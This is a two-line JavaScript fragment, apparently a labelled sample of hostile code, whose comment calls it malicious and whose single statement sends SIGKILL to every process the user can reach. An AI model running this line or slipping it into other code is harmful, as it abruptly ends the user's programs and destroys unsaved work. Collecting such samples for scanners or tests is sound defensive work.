// malicious: ends every process of the user
process.kill(-1, 'SIGKILL');
